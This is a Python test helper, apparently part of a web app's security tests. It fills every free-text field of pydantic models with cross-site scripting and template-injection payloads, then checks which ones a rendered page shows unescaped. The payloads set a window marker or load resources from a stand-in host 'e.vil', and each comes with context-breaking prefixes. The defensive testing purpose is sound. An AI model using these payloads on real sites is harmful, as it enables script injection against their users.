"""Texts that would become more than text if a page took them for markup, and content that holds them wherever it can."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import cycle
from typing import Any, TypeVar

from pydantic import BaseModel, ValidationError

HIT, FOREIGN = "__hit", "e.vil"
"""The property of a page's window that a script would set, and the host that a page would ask."""

_DO = f"window.{HIT}=1"

BASES = (
    f"<script>{_DO}</script>",
    f"<script src=//{FOREIGN}/s></script>",
    f"<img src=x onerror={_DO}>",
    f"<img src=//{FOREIGN}/i>",
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><animate onbegin={_DO} attributeName=x>",
    f"<svg><image href=//{FOREIGN}/v />",
    f"<math><mtext><style><img src=x onerror={_DO}>",
    f"<iframe srcdoc='<script>parent.{HIT}=1</script>'>",
    f"<iframe src=//{FOREIGN}/f></iframe>",
    f"<details open ontoggle={_DO}>x",
    f"<video src=x onerror={_DO}>",
    f"<audio src=//{FOREIGN}/a>",
    f"<input autofocus onfocus={_DO}>",
    f"<body onload={_DO}>",
    f"<style>@import'//{FOREIGN}/c';</style>",
    f"<p style=background:url(//{FOREIGN}/b)>x",
    f"<link rel=stylesheet href=//{FOREIGN}/l>",
    f"<object data=//{FOREIGN}/o></object>",
    f"<meta http-equiv=refresh content='0;//{FOREIGN}'>",
    f"<base href=//{FOREIGN}/>",
    f"<a href=javascript:{_DO} autofocus>x</a>",
    f"![x](//{FOREIGN}/m)",
    f"[x](javascript:{_DO})",
    f"{{{{constructor.constructor('{_DO}')()}}}}",
    f"${{{_DO}}}",
    f"data:text/html,<script>parent.{HIT}=1</script>",
    f"x onmouseover={_DO} style=position:fixed;inset:0",
    f"<p onpointerenter={_DO} style=position:fixed;inset:0>x",
)

BEFORE = ("", '">', "'>", "</textarea>", "</script>", "-->", "</title>", "</style>", '" ', "&lt;", "\\u003c", "`")
"""What ends the place that a text stands in."""


def payloads(count: int) -> list[str]:
    """So many different ones, at most all; each base comes before any comes again."""
    return [before + base for before in BEFORE for base in BASES][:count]


Content = TypeVar("Content", bound=BaseModel)

LENGTHS = (200, 115)
"""How much a field is offered, in turn, until it takes it."""


class Filled:
    """Content in which every field that takes text holds payloads, as many as it takes; they come round and round."""

    def __init__(self, texts: list[str]) -> None:
        self._texts = cycle(texts)
        self.fields = 0

    def of(self, content: Content) -> Content:
        """The content, filled. A field that may not hold free text keeps what it has."""
        plain = content.model_dump(mode="json")
        for put, old in _leaves(plain):
            for length in LENGTHS:
                put(self.text(length))
                try:
                    type(content).model_validate(plain)
                except ValidationError:
                    put(old)
                else:
                    self.fields += 1
                    break
        return type(content).model_validate(plain)

    def text(self, most: int) -> str:
        """As many payloads as fit."""
        made = next(self._texts)
        while len(made) + len(more := next(self._texts)) < most:
            made += " " + more
        return made


def _leaves(plain: Any) -> Iterator[tuple[Callable[[str], None], str]]:
    for name, part in list(plain.items() if isinstance(plain, dict) else enumerate(plain)):
        if isinstance(part, str):
            yield (lambda text, at=name: plain.__setitem__(at, text)), part
        elif isinstance(part, dict | list):
            yield from _leaves(part)


def chunks(texts: list[str], most: int) -> list[str]:
    """All texts, as few pieces as possible, of at most so many characters each."""
    pieces = [""]
    for text in texts:
        if len(pieces[-1]) + len(text) + 1 > most:
            pieces.append("")
        pieces[-1] += text + " "
    return pieces


def shown(texts: list[str], page: str) -> list[str]:
    """Those of the texts that stand in a page as text."""
    return [text for text in texts if text in page]
